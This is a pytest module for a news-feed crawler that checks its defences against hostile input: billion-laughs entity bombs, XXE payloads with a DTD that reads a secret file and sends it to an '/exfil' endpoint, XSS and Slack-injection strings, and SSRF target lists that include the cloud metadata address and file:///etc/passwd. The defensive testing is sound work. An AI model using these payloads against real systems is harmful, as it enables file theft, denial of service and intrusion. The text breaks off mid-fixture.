"""Hostile input, end to end against real servers on 127.0.0.1: XML entity bombs and external entities in feeds,
scripts, event handlers and absurdly deep markup in entries and pages, links and redirects to private addresses and
odd schemes, and malformed configuration, dates and amounts. Each case is crawled (or loaded, or rendered) through
the real code path and must end in a clear outcome: nothing crashes, nothing leaks, nothing is expanded or fetched
that should not be. See docs/crawler.md ("Safety") for the documented behaviour."""

from __future__ import annotations

import email.utils
import json
import math
import os
import re
import socket
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from crawl_support import FIXTURES, make_config, rss, source_toml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html
from notify_support import BASE_CONFIG, NOW, add_alert, add_article, add_event, add_signal, insert
from pytest_httpserver import HTTPServer

from classifiers.amounts import MAX_PLAUSIBLE_USD, USD_PER_UNIT, extract_amounts, extract_article_amounts
from monitor.cli import cli
from monitor.config import load_config
from monitor.crawl import crawl_sources
from monitor.crawl.canonical import canonical_url
from monitor.crawl.dates import EARLIEST, FUTURE_TOLERANCE
from monitor.crawl.feeds import http_link
from monitor.crawl.text import html_to_text
from monitor.notify import enqueue_alert_notifications, render_digest
from monitor.notify.evidence import EvidenceItem
from monitor.notify.slack import AlertEventView, render_alert_message
from monitor.risk.stories import assign_stories, no_embedding
from storage.store import NewArticle, NewSignal, Store
from storage.times import from_iso, utcnow

HOSTILE = FIXTURES / "hostile"
ROOT = Path(__file__).resolve().parents[1]
CRAWL_NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
TAG_START = re.compile(r"<[A-Za-z/!?]")


# ================================================================================================ helpers
def requested(server: HTTPServer) -> list[str]:
    """Every path the server was asked for, in order."""
    return [req.path for req, _ in server.log]


def database_text(store: Store) -> str:
    """Every value of every table (articles, FTS, incidents, sources, signals ...) as one string."""
    out = []
    for table in store.rows("select name from sqlite_master where type = 'table'"):
        for row in store.rows(f'select * from "{table["name"]}"'):
            out.append(" ".join(str(v) for v in row.values()))
    return "\n".join(out)


def article_fields(store: Store) -> list[dict[str, Any]]:
    return store.rows("select id, url, link, title, summary, text, published, fetched, date_missing, source from articles")


def invoke(config: Path, db: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--config", str(config), "--db", str(db), *args])


def catch_all(server: HTTPServer, body: str = "<html><body><p>INTERNAL SECRET PAGE</p></body></html>",
              content_type: str = "text/html") -> None:
    """Answer every path not otherwise handled (registered last), so a leaked request is both served and logged."""
    server.expect_request(re.compile(r"^/.*$")).respond_with_data(body, content_type=content_type)


# ================================================================================================ 1. entity bombs
def laughs(root: str, *, one_line: bool = True, levels: int = 10, width: int = 10) -> str:
    """A DOCTYPE whose ``&lol9;`` would expand to 10^9 "lol"s (3 GB). ``one_line`` keeps the declarations on the
    DOCTYPE line, past feedparser's own line-based entity filter, so that the XML parser itself must refuse."""
    decls = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * width}">' for i in range(1, levels)]
    sep = "" if one_line else "\n"
    return f"<!DOCTYPE {root} [{sep}" + sep.join(decls) + f"{sep}]>"


def quadratic(root: str, size: int = 50_000, refs: int = 50_000) -> tuple[str, str]:
    """A DOCTYPE with one 50 KB entity and 50,000 references to it (2.5 GB if expanded)."""
    return f'<!DOCTYPE {root} [<!ENTITY a "{"A" * size}">]>', "&a;" * refs


def bomb_feed(doctype: str, ref: str) -> bytes:
    return (  # the DOCTYPE right after the declaration, on line 1: feedparser's line-based filter does not see it
        f'<?xml version="1.0" encoding="utf-8"?>{doctype}<rss version="2.0"><channel><title>Bomb</title>'
        f"<link>https://bomb.example.com/</link><item><title>Helix bomb {ref[:40]}</title>"
        f"<link>https://bomb.example.com/1</link><description>Helix AI {ref}</description></item></channel></rss>"
    ).encode()


def serve_bombs(server: HTTPServer) -> str:
    """Serve every bomb (feed, status, html listing and page, price page, JSON) and return the sources TOML."""
    rss_type, html_type = "application/rss+xml", "text/html"
    quad_doctype, quad_refs = quadratic("rss")
    routes: dict[str, tuple[bytes, str]] = {
        "/laughs-inline": (bomb_feed(laughs("rss"), "&lol9;"), rss_type),
        "/laughs-lines": (bomb_feed(laughs("rss", one_line=False), "&lol9;"), rss_type),
        "/quadratic": (bomb_feed(quad_doctype, quad_refs), rss_type),
        "/status-laughs": (
            (f'<?xml version="1.0"?>{laughs("feed")}<feed xmlns="http://www.w3.org/2005/Atom"><title>Status</title>'
             "<id>urn:s</id><updated>2026-03-02T10:00:00Z</updated><entry><id>urn:s:1</id><title>Outage &lol9;</title>"
             '<link href="https://status.example.com/i/1"/><updated>2026-03-02T10:00:00Z</updated>'
             '<content type="html">&lol9;</content></entry></feed>').encode(),
            "application/atom+xml",
        ),
        "/listing": (
            (f'{laughs("html")}<html><body><a class="post" href="/bomb-article">Helix &lol9;</a></body></html>').encode(),
            html_type,
        ),
        "/bomb-article": (
            (f'<?xml version="1.0"?>{laughs("html")}<html xmlns="http://www.w3.org/1999/xhtml"><body><article>'
             + "<p>Helix AI reported a loss this quarter &lol9; and more.</p>" * 5 + "</article></body></html>").encode(),
            "application/xhtml+xml",
        ),
        "/prices": (
            (f'{laughs("html")}<html><body><table><tr class="m"><td class="model">model-&lol9;</td>'
             '<td class="in">$1.00 / 1M tokens &lol9;</td><td class="out">$2.00 / 1M tokens</td></tr></table></body></html>').encode(),
            html_type,
        ),
        "/deep-json": (b"[" * 200_000 + b"]" * 200_000, "application/json"),
        "/fulltext-feed": (rss([("Helix article with a bomb", server.url_for("/bomb-article"))]), rss_type),
    }
    for path, (body, ctype) in routes.items():
        server.expect_request(path).respond_with_data(body, content_type=ctype)
    url = server.url_for
    return (
        source_toml("laughs-inline", url("/laughs-inline")) + source_toml("laughs-lines", url("/laughs-lines"))
        + source_toml("quadratic", url("/quadratic"))
        + source_toml("status-laughs", url("/status-laughs"), kind="status", providers=["helix"])
        + source_toml("listing-laughs", url("/listing"), kind="html", selectors={"link": "a.post"})
        + source_toml("prices-laughs", url("/prices"), kind="prices", format="html", providers=["helix"],
                      selectors={"row": "tr.m", "model": ".model", "input_price": ".in", "output_price": ".out"})
        + source_toml("deep-json-prices", url("/deep-json"), kind="prices", format="json")
        + source_toml("deep-json-feed", url("/deep-json"))
        + source_toml("fulltext-bomb", url("/fulltext-feed"), fetch_full_text=True)
    )


def test_entity_bombs_are_refused_and_nothing_expanded_is_stored(httpserver: HTTPServer, store: Store,
                                                                   tmp_path: Path) -> None:
    config = make_config(tmp_path, serve_bombs(httpserver))
    report = crawl_sources(config, store, force=True, now=CRAWL_NOW)
    results = {r.name: r for r in report.results}
    assert all(r.status in ("ok", "error") for r in results.values()), results
    # the feeds are kept (the entry is real), with the parser's complaint recorded, or the entity left as text
    for name in ("laughs-inline", "quadratic"):
        assert results[name].status == "ok"
        assert (results[name].warning or "").startswith("malformed feed kept (")  # e.g. "amplification factor breached"
        state = store.source_state(name)
        assert state is not None and state["last_warning"] == results[name].warning
    assert results["laughs-lines"].status == "ok"  # feedparser drops unsafe declarations itself
    assert results["status-laughs"].status == "ok"
    assert results["listing-laughs"].status == "ok" and results["fulltext-bomb"].status == "ok"
    assert results["deep-json-prices"].status == "error" and results["deep-json-feed"].status == "error"
    # bounded: no stored field is longer than the largest document served, and no expansion is in any of them
    for row in article_fields(store):
        for field in ("title", "summary", "text"):
            value = row[field] or ""
            assert len(value) <= 200_000, (row["url"], field, len(value))
            assert "lol" * 100 not in value and "A" * 50_000 not in value
    stored = database_text(store)
    assert "lol" * 100 not in stored and "A" * 50_000 not in stored
    assert "/bomb-article" in requested(httpserver)  # the page was fetched, parsed as HTML, entity not expanded


MEMORY_PROBE = r"""
import json, resource, sys
from datetime import UTC, datetime
from monitor.config import load_config
from monitor.crawl import crawl_sources
from monitor.crawl.feeds import parse_feed
from monitor.crawl.fulltext import extract_page
from storage.store import Store

SCALE = 1024 if sys.platform == "darwin" else 1  # ru_maxrss is in bytes on macOS, in KB on Linux
# warm up every parser once, so that the measurement is the crawl and not the imports
parse_feed(b'<rss version="2.0"><channel><item><title>x</title></item></channel></rss>', {}, "http://w.test/", datetime.now(UTC))
extract_page(b"<html><body><p>warm up</p></body></html>", "http://w.test/a")
config, store = load_config(sys.argv[1]), Store(sys.argv[2])
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
report = crawl_sources(config, store, force=True)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
store.close()
print(json.dumps({"grew_kb": (after - before) // SCALE, "statuses": {r.name: r.status for r in report.results}}))
"""


def test_entity_bombs_use_bounded_memory(httpserver: HTTPServer, tmp_path: Path) -> None:
    """The same crawl in a fresh interpreter: its peak RSS grows by far less than any expansion would need
    (one billion laughs is 3 GB; the quadratic blow-up 2.5 GB)."""
    pytest.importorskip("resource")
    config = make_config(tmp_path, serve_bombs(httpserver))
    proc = subprocess.run(
        [sys.executable, "-c", MEMORY_PROBE, str(config.path), str(tmp_path / "memory.db")],
        capture_output=True, text=True, cwd=ROOT, env=dict(os.environ), timeout=600, check=False,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    outcome = json.loads(proc.stdout.strip().splitlines()[-1])
    assert set(outcome["statuses"].values()) <= {"ok", "error"}
    assert outcome["grew_kb"] < 200 * 1024, outcome  # about 70 MB here: expat expands up to its limit, then stops


# ================================================================================================ 2. external entities
@pytest.fixture
def secret(tmp_path: Path) -> tuple[Path, str]:
    token = "CAPWATCH-SECRET-7f3a9c1e"
    path = tmp_path / "secret.txt"
    path.write_text(f"{token}\n", encoding="utf-8")
    return path, token


def serve_xxe(server: HTTPServer, secret_path: Path) -> str:
    file_url = secret_path.as_uri()
    dtd = server.url_for("/evil.dtd")
    exfil = server.url_for("/exfil")
    server.expect_request("/evil.dtd").respond_with_data(
        f'<!ENTITY % file SYSTEM "{file_url}">\n<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'{exfil}?d=%file;\'>">\n'
        f'%wrap;\n%send;\n<!ENTITY xxe "%file;">\n', content_type="application/xml-dtd",
    )

    def rss_doc(name: str, doctype: str, ref: str = "&xxe;", *, same_line: bool = True) -> bytes:
        sep = "" if same_line else "\n"  # on line 1 the XML parser sees it; on its own line feedparser filters it first
        return (f'<?xml version="1.0" encoding="utf-8"?>{sep}{doctype}{sep}<rss version="2.0"><channel><title>X {ref}</title>'
                f"<link>https://xxe.example.com/</link><item><title>Helix {name} {ref}</title>"
                f"<link>https://xxe.example.com/{name}</link><description>Helix AI {ref} news</description></item>"
                "</channel></rss>").encode()

    rss_type = "application/rss+xml"
    docs: dict[str, tuple[bytes, str]] = {
        # a general external entity, declared inline (reaches the XML parser) and on its own line
        "inline": (rss_doc("inline", f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{file_url}">]>'), rss_type),
        "lines": (rss_doc("lines", f'<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "{file_url}">\n]>', same_line=False), rss_type),
        # a parameter entity pulling a remote DTD that reads the file and sends it back out
        "param": (rss_doc("param", f'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{dtd}"> %remote;]>'), rss_type),
        "param-lines": (rss_doc("param-lines", f'<!DOCTYPE rss [\n<!ENTITY % remote SYSTEM "{dtd}">\n%remote;\n]>',
                                same_line=False), rss_type),
        # an external DTD subset
        "external-dtd": (rss_doc("external-dtd", f'<!DOCTYPE rss SYSTEM "{dtd}">'), rss_type),
        "public-dtd": (rss_doc("public-dtd", f'<!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "{dtd}">'), rss_type),
        # XInclude of the file as text
        "xinclude": (rss_doc("xinclude", "", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file_url}" '
                                             'parse="text"/>'), rss_type),
        "atom": ((f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY xxe SYSTEM "{file_url}">]>'
                  '<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title><id>urn:x</id>'
                  "<updated>2026-03-02T10:00:00Z</updated><entry><id>urn:x:1</id><title>Helix atom &xxe;</title>"
                  '<link href="https://xxe.example.com/atom"/><updated>2026-03-02T10:00:00Z</updated>'
                  '<content type="html">&xxe;</content></entry></feed>').encode(), "application/atom+xml"),
        "rdf": ((f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM "{file_url}">]>'
                 '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
                 '<channel rdf:about="https://xxe.example.com/"><title>&xxe;</title><link>https://xxe.example.com/</link>'
                 "</channel><item rdf:about=\"https://xxe.example.com/rdf\"><title>Helix rdf &xxe;</title>"
                 "<link>https://xxe.example.com/rdf</link><description>&xxe;</description></item></rdf:RDF>").encode(),
                "application/rdf+xml"),
        "listing": ((f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "{file_url}">]><html><body>'
                     '<a class="post" href="/xxe-article">Helix listing &xxe;</a></body></html>').encode(), "text/html"),
        "xxe-article": ((f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "{file_url}">'
                         f'<!ENTITY % remote SYSTEM "{dtd}"> %remote;]><html xmlns="http://www.w3.org/1999/xhtml">'
                         "<body><article>" + "<p>Helix AI said &xxe; that revenue grew.</p>" * 5
                         + "</article></body></html>").encode(), "application/xhtml+xml"),
    }
    for name, (body, ctype) in docs.items():
        server.expect_request(f"/{name}").respond_with_data(body, content_type=ctype)
    server.expect_request("/fulltext").respond_with_data(
        rss([("Helix article", server.url_for("/xxe-article"))]), content_type="application/rss+xml")
    sources = "".join(source_toml(f"xxe-{name}", server.url_for(f"/{name}")) for name in docs if name not in ("listing", "xxe-article"))
    return (
        sources
        + source_toml("xxe-status", server.url_for("/atom"), kind="status", providers=["helix"])
        + source_toml("xxe-listing", server.url_for("/listing"), kind="html", selectors={"link": "a.post"})
        + source_toml("xxe-fulltext", server.url_for("/fulltext"), fetch_full_text=True)
    )


def test_external_entities_never_read_files_or_fetch_dtds(httpserver: HTTPServer, store: Store, tmp_path: Path,
                                                          secret: tuple[Path, str]) -> None:
    path, token = secret
    config = make_config(tmp_path, serve_xxe(httpserver, path))
    report = crawl_sources(config, store, force=True, now=CRAWL_NOW)
    assert all(r.status == "ok" for r in report.results), [(r.name, r.status, r.error) for r in report.results]
    # every entry is kept: one per feed, and the article page both the listing and the full-text feed link to
    assert store.article_count() == 10 and len(store.rows("select id from incidents")) == 1
    assert token not in database_text(store)
    paths = requested(httpserver)
    assert "/evil.dtd" not in paths and "/exfil" not in paths
    assert "/xxe-article" in paths  # the page itself was read (as HTML, entities not resolved)


# ================================================================================================ 3. scripts and nesting
def serve_fixture(server: HTTPServer, path: str, name: str, content_type: str, *, when: datetime | None = None) -> None:
    body = (HOSTILE / name).read_bytes()
    if when is not None:  # move the fixture's dates to ``when`` (the digest shows signals of the last week only)
        body = re.sub(rb"Mon, 02 Mar 2026 \d\d:\d\d:\d\d GMT", email.utils.format_datetime(when, usegmt=True).encode(), body)
        body = re.sub(rb"2026-03-02T\d\d:\d\d:\d\dZ", when.strftime("%Y-%m-%dT%H:%M:%SZ").encode(), body)
    server.expect_request(path).respond_with_data(body, content_type=content_type)


def serve_scripts(server: HTTPServer, when: datetime | None = None) -> str:
    serve_fixture(server, "/rss", "scripts_rss.xml", "application/rss+xml", when=when)
    serve_fixture(server, "/atom", "scripts_atom.xml", "application/atom+xml", when=when)
    serve_fixture(server, "/json", "scripts_feed.json", "application/feed+json", when=when)
    return (source_toml("scripts-rss", server.url_for("/rss")) + source_toml("scripts-atom", server.url_for("/atom"))
            + source_toml("scripts-json", server.url_for("/json")))


# Entries whose *text* (not markup) mentions tags: a double-escaped RSS title and a JSON Feed content_text. They
# are stored as typed, as plain text; every renderer escapes them (see the digest and Slack tests below).
LITERAL_TITLE = 'Helix AI raises $2 billion <script>alert(20)</script> "><img src=x onerror=alert(21)> [/] [bold red]x'


def assert_plain(value: str, where: str) -> None:
    assert not TAG_START.search(value), (where, value)
    lowered = value.lower()
    for bad in ("javascript", "onerror", "onclick", "onload", "onmouseover", "document.cookie", "display: none",
                "expression(", "evil.example", "base64"):
        assert bad not in lowered, (where, bad, value)


def test_scripts_and_handlers_in_entries_are_stored_as_plain_text(httpserver: HTTPServer, store: Store,
                                                                   tmp_path: Path) -> None:
    config = make_config(tmp_path, serve_scripts(httpserver))
    report = crawl_sources(config, store, force=True, now=CRAWL_NOW)
    assert [r.status for r in report.results] == ["ok", "ok", "ok"]
    rows = {row["title"]: row for row in article_fields(store)}
    assert set(rows) == {"Helix AI lays off 30% of staff", LITERAL_TITLE, "Northwind Models outage",
                         "Northwind Models cuts prices", "Helix AI misses payroll", "Plain title"}
    for title, row in rows.items():
        for field in ("title", "summary", "text"):
            if title not in (LITERAL_TITLE, "Plain title"):
                assert_plain(row[field], f"{title}: {field}")
        assert row["link"] is None or row["link"].startswith("https://hostile.example.com/")
    layoffs = rows["Helix AI lays off 30% of staff"]
    assert "Helix AI announced layoffs" in layoffs["text"] and "Staff were told on Monday." in layoffs["text"]
    for body in ("alert(1)", "alert(5)", "alert(10)", "alert(19)", "alert(13)"):  # script bodies are dropped, not kept
        assert body not in layoffs["text"] and body not in layoffs["title"]
    assert rows["Northwind Models cuts prices"]["text"] == "Northwind Models cut its API prices by half. details"
    # a javascript: link is no link: the entry is kept under a stable id
    assert rows["Northwind Models outage"]["url"].startswith("urn:capwatch:entry:")
    assert rows["Plain title"]["url"].startswith("urn:capwatch:entry:") and rows["Plain title"]["link"] is None
    # text that only mentions tags stays as typed (plain text), for the renderers to escape
    assert rows["Plain title"]["text"] == "<script>alert(46)</script> is text here, not markup"
    assert "mentions <script> tags is kept as text" in rows[LITERAL_TITLE]["summary"]


def deep(depth: int, inner: str, tag: str = "div") -> str:
    return f"<{tag}>" * depth + inner + f"</{tag}>" * depth


def test_deeply_nested_markup_keeps_its_text_and_crashes_nothing(httpserver: HTTPServer, store: Store,
                                                                 tmp_path: Path) -> None:
    items = "".join(
        f"<item><title><![CDATA[{title}]]></title><link>https://deep.example.com/{i}</link>"
        f"<description><![CDATA[{body}]]></description></item>"
        for i, (title, body) in enumerate([
            ("Helix deep divs", deep(5000, "Helix AI deep text marker one")),
            ("Helix unclosed", "<b><i>" * 5000 + "Helix AI deep text marker two"),
            ("Helix mixed " + deep(3000, "title text", "span"), deep(300, "marker three") + "<p>after the block</p>"),
        ])
    )
    feed = f'<?xml version="1.0"?><rss version="2.0"><channel><title>Deep</title>{items}</channel></rss>'
    httpserver.expect_request("/deep-feed").respond_with_data(feed, content_type="application/rss+xml")
    page = ("<html><body><article><p>" + "Helix AI reported revenue growth this quarter. " * 10 + "</p>"
            + deep(5000, "<p>Deep paragraph about Helix.</p>") + "</article></body></html>")
    httpserver.expect_request("/deep-page").respond_with_data(page, content_type="text/html")
    listing = "<html><body>" + deep(5000, '<a class="post" href="/deep-page">Helix deep page</a>') + "</body></html>"
    httpserver.expect_request("/deep-listing").respond_with_data(listing, content_type="text/html")
    config = make_config(tmp_path, source_toml("deep-feed", httpserver.url_for("/deep-feed"))
                         + source_toml("deep-listing", httpserver.url_for("/deep-listing"), kind="html",
                                       selectors={"link": "a.post"}))
    report = crawl_sources(config, store, force=True, now=CRAWL_NOW)
    assert [(r.status, r.error) for r in report.results] == [("ok", None), ("ok", None)]
    rows = {row["url"]: row for row in article_fields(store)}
    texts = {url: row["text"] for url, row in rows.items()}
    assert texts["https://deep.example.com/0"] == "Helix AI deep text marker one"
    assert texts["https://deep.example.com/1"] == "Helix AI deep text marker two"
    assert texts["https://deep.example.com/2"] == "marker three after the block"
    assert rows["https://deep.example.com/2"]["title"] == "Helix mixed title text"
    for row in rows.values():
        for field in ("title", "summary", "text"):
            assert_plain(row[field] or "", f"{row['url']}: {field}")
    # the deep page was fetched for its text; whatever its extractor keeps is plain text
    assert "/deep-page" in requested(httpserver)


def test_html_nested_past_the_parser_limit_keeps_all_its_text() -> None:
    # 300 levels is past libxml2's default limit of 256 (which used to lose the whole fragment)
    assert html_to_text(deep(300, "inner") + "<p>after</p>") == "inner after"
    assert html_to_text(deep(5000, "<script>alert(1)</script>inner<style>x{}</style>") + "<p>after</p>") == "inner after"
    assert html_to_text("<div>" * 5000 + "unclosed <!-- comment <script>x</script>") == "unclosed"
    assert html_to_text("a <b" + "<" * 10_000) .startswith("a")  # stray angle brackets: text, quickly
    assert html_to_text("Helix\x1b[2J AI\x00 \x07news") == "Helix[2J AI news"  # control characters are dropped


def test_hostile_article_page_text_is_plain(httpserver: HTTPServer, store: Store, tmp_path: Path) -> None:
    httpserver.expect_request("/news").respond_with_data(
        '<html><body><a class="post" href="/article" onclick="alert(1)">Helix AI cuts <script>alert(2)</script>staff</a>'
        '<a class="post" href="javascript:alert(3)">Bad link</a><a class="post" href="data:text/html,x">Data</a>'
        "</body></html>", content_type="text/html")
    httpserver.expect_request("/article").respond_with_data((HOSTILE / "article.html").read_bytes(), content_type="text/html")
    config = make_config(tmp_path, source_toml("hostile-html", httpserver.url_for("/news"), kind="html",
                                               selectors={"link": "a.post"}))
    result = crawl_sources(config, store, force=True, now=CRAWL_NOW).by_name("hostile-html")
    assert (result.status, result.new_articles) == ("ok", 1)  # javascript: and data: links are no articles
    (row,) = article_fields(store)
    assert row["title"] == "Helix AI cuts staff"
    assert "cut a third of its staff" in row["text"] and "funding round" in row["text"]
    for field in ("title", "summary", "text"):
        assert_plain(row[field], field)
        assert "alert(" not in row[field]


# ------------------------------------------------------------------------------------------------ rendering
def assert_safe_html(html: str, allowed_links: set[str]) -> None:
    """No element or attribute that runs code, and links only to http(s) URLs we know."""
    root = lxml_html.document_fromstring(html)
    forbidden = {"script", "iframe", "img", "object", "embed", "svg", "form", "input", "base", "link", "style", "frame"}
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag not in forbidden, el.tag
        assert el.tag != "meta" or (el.get("http-equiv") or "").lower() != "refresh"
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            if name == "href":
                assert value in allowed_links, value
    assert "<script" not in html.lower() and "javascript:" not in html.lower()


def slack_texts(message: dict[str, Any]) -> list[str]:
    texts = [message["text"]]
    for block in message["blocks"]:
        if block["type"] == "section":
            if "text" in block:
                texts.append(block["text"]["text"])
            texts += [f["text"] for f in block.get("fields", [])]
        elif block["type"] == "context":
            texts += [e["text"] for e in block["elements"]]
    return texts


def assert_safe_slack(message: dict[str, Any], allowed_links: set[str]) -> None:
    """Every ``<...>`` in the mrkdwn is one of our links; every ``&`` outside them starts an entity."""
    for text in slack_texts(message):
        for token in re.findall(r"<([^<>]*)>", text):
            target, _, _ = token.partition("|")
            assert target in allowed_links, (token, text)
        outside = re.sub(r"<https?://[^<>|]*\|([^<>]*)>", r"\1", text)  # our links, reduced to their titles
        assert "<" not in outside, text  # nothing else can open a link, a mention or a command
        assert re.fullmatch(r"(?:[^&]|&(?:amp|lt|gt);)*", outside, re.S), text  # every "&" is an entity
    for block in message["blocks"]:
        if block["type"] == "section" and "text" in block:
            assert len(block["text"]["text"]) <= 3000


def test_crawled_hostile_text_is_escaped_in_the_digest_and_on_slack(httpserver: HTTPServer, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """Crawl -> classify -> alert -> `digest --preview` and the queued Slack message, all through the real code."""
    now = utcnow()
    sources = serve_scripts(httpserver, when=now - timedelta(hours=2))
    slack = '\n[notify.slack]\nmin_interval_seconds = 0\n[[notify.slack.routes]]\nname = "all"\nwebhook_url_env = "HOOK_ALL"\n'
    config = make_config(tmp_path, sources + slack)
    monkeypatch.setenv("HOOK_ALL", "http://127.0.0.1:9/never-used")
    db = tmp_path / "e2e.db"
    assert invoke(config.path, db, "crawl").exit_code == 0
    classified = invoke(config.path, db, "classify")
    assert classified.exit_code == 0, classified.output
    # the CLI prints stored titles as data: "[/]" in a title is no rich markup (it used to crash the table)
    found = invoke(config.path, db, "search", "Helix")
    assert found.exit_code == 0, found.output
    assert "[/] [bold red]x" in found.output

    with Store(db) as store:
        signals = store.rows("select s.id, a.title, a.link from signals s join articles a on a.id = s.article_id "
                             "where s.provider = 'helix'")
        assert any(r["title"] == LITERAL_TITLE for r in signals), signals
        ids = [r["id"] for r in signals]
        links = {r["link"] for r in store.rows("select link from articles where link is not null")}
        summary = 'Helix <!channel> <@U123> <http://evil.example|click> "><script>alert(70)</script> & more'
        alert = add_alert(store, "helix", "critical", score=9.0, opened_at=now - timedelta(hours=1), summary=summary,
                          evidence={"signals": ids})
        add_event(store, alert, "opened", "critical", score=9.0, at=now - timedelta(minutes=5), evidence={"signals": ids})
        assert enqueue_alert_notifications(config, store, now=now) == 1
        (row,) = store.rows("select payload from deliveries where channel = 'slack'")
        message = json.loads(row["payload"])["message"]

    out = tmp_path / "digest.html"
    preview = invoke(config.path, db, "digest", "--preview", str(out))
    assert preview.exit_code == 0, preview.output
    html = out.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(20)&lt;/script&gt;" in html  # the literal title, escaped
    assert "&#34;&gt;&lt;img src=x onerror=alert(21)&gt;" in html
    assert_safe_html(html, links)

    assert_safe_slack(message, links)
    everything = "\n".join(slack_texts(message))
    assert "&lt;!channel&gt;" in everything and "&lt;@U123&gt;" in everything
    assert "&lt;http://evil.example|click&gt;" in everything and "&lt;script&gt;alert(70)" in everything


def test_slack_message_neutralises_injections_and_stays_within_limits() -> None:
    evil_url = "https://news.example/a?x=1|<!channel>>"
    items = (
        EvidenceItem(title="<!channel> Helix <@U123> <http://evil.example|click here> & co", url=evil_url,
                     tag="losses_burn", detail="confidence 0.97", source="<!here>", published="2026-06-15T00:00:00Z"),
        EvidenceItem(title="&" * 400, url="https://news.example/" + "x" * 5000, tag="layoffs"),
        EvidenceItem(title="javascript link", url="javascript:alert(1)"),
    )
    view = AlertEventView(event_id=1, alert_id=2, provider="helix", provider_name="Helix <!everyone>", kind="opened",
                          level="critical", previous_level="warning", score=9.0, at="2026-06-15T07:00:00Z",
                          opened_at="2026-06-15T06:00:00Z", summary="<" * 5000, evidence=items)
    message = render_alert_message(view)
    assert_safe_slack(message, {"https://news.example/a?x=1%7C%3C!channel%3E%3E"})
    evidence = message["blocks"][3]["text"]["text"]
    assert "<https://news.example/a?x=1%7C%3C!channel%3E%3E|&lt;!channel&gt; Helix &lt;@U123&gt;" in evidence
    assert "javascript" in evidence and "<javascript" not in evidence  # shown as its title, never linked
    assert "x" * 1000 not in evidence  # an overlong URL is not linked (it would break the block's size limit)
    summary = message["blocks"][2]["text"]["text"]
    assert summary.endswith("\u2026") and not summary.endswith("&\u2026") and len(summary) <= 2900
    assert "<" not in message["text"]  # the plain-text fallback has no links and no mentions at all


def test_digest_escapes_titles_summaries_and_refuses_script_links(store: Store, write_config: Callable[..., Path]) -> None:
    config = load_config(write_config("", base=BASE_CONFIG))
    hostile = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
    safe = add_article(store, f"Helix {hostile}", "https://news.example/helix/1?a=\"><script>", source="helix-blog",
                       published=NOW - timedelta(hours=3))
    bad = add_article(store, "Helix javascript link", "javascript:alert(3)", published=NOW - timedelta(hours=3))
    for art in (safe, bad):
        add_signal(store, "helix", "losses_burn", 0.9, article_id=art, published=NOW - timedelta(hours=3),
                   created=NOW - timedelta(hours=2))
    add_alert(store, "helix", "critical", score=9.0, opened_at=NOW - timedelta(hours=1), summary=f"Summary {hostile}")
    insert(store, "incidents", {"source": "northwind-status", "external_id": "x", "provider": "northwind",
                                "title": f"Outage {hostile}", "impact": "major", "status": "investigating",
                                "started": NOW.isoformat(), "url": "JAVASCRIPT:alert(4)"})
    digest = render_digest(config, store, now=NOW)
    assert_safe_html(digest.html, {'https://news.example/helix/1?a="><script>'})
    assert 'href="https://news.example/helix/1?a=&#34;&gt;&lt;script&gt;"' in digest.html
    assert digest.html.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 3  # signal title, alert summary, incident
    assert "Helix javascript link" in digest.html and "JAVASCRIPT" not in digest.html
    assert hostile in digest.text  # the plain-text part shows the text as typed (it is not HTML)


# ================================================================================================ 4. private addresses
PRIVATE_LINKS = [
    "http://10.0.0.1/x",
    "http://192.168.1.1/",
    "http://172.16.5.4/admin",
    "http://169.254.169.254/latest/meta-data/",
    "http://100.64.0.1/",  # carrier-grade NAT
    "http://[fe80::1]/",
    "http://[fc00::1]/",
    "http://224.0.0.1/",
    "http://240.0.0.1/",
]


def loopback_links(port: int) -> list[str]:
    return [
        f"http://127.0.0.1:{port}/secret",
        f"http://localhost:{port}/secret",
        f"http://LOCALHOST.:{port}/secret",
        f"http://[::1]:{port}/secret",
        f"http://[::ffff:127.0.0.1]:{port}/secret",
        f"http://0.0.0.0:{port}/secret",
        f"http://2130706433:{port}/secret",  # 127.0.0.1 as one decimal number
        f"http://0x7f.1:{port}/secret",
        f"http://127.1:{port}/secret",
        f"http://evil.example@127.0.0.1:{port}/secret",
        f"http://intranet.example.test:{port}/secret",  # a name that resolves to 127.0.0.1 (see fake_dns)
        f"http://status.internal:{port}/secret",
        f"http://printer.local:{port}/secret",
    ]


def odd_schemes(port: int) -> list[str]:
    return [
        "file:///etc/passwd",
        f"ftp://127.0.0.1:{port}/secret",
        f"gopher://127.0.0.1:{port}/_secret",
        f"dict://127.0.0.1:{port}/secret",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "javascript:alert(document.domain)",
        f"//127.0.0.1:{port}/secret",  # scheme-relative: resolves against the feed (http on loopback)
    ]


@pytest.fixture
def fake_dns(monkeypatch: pytest.MonkeyPatch) -> None:
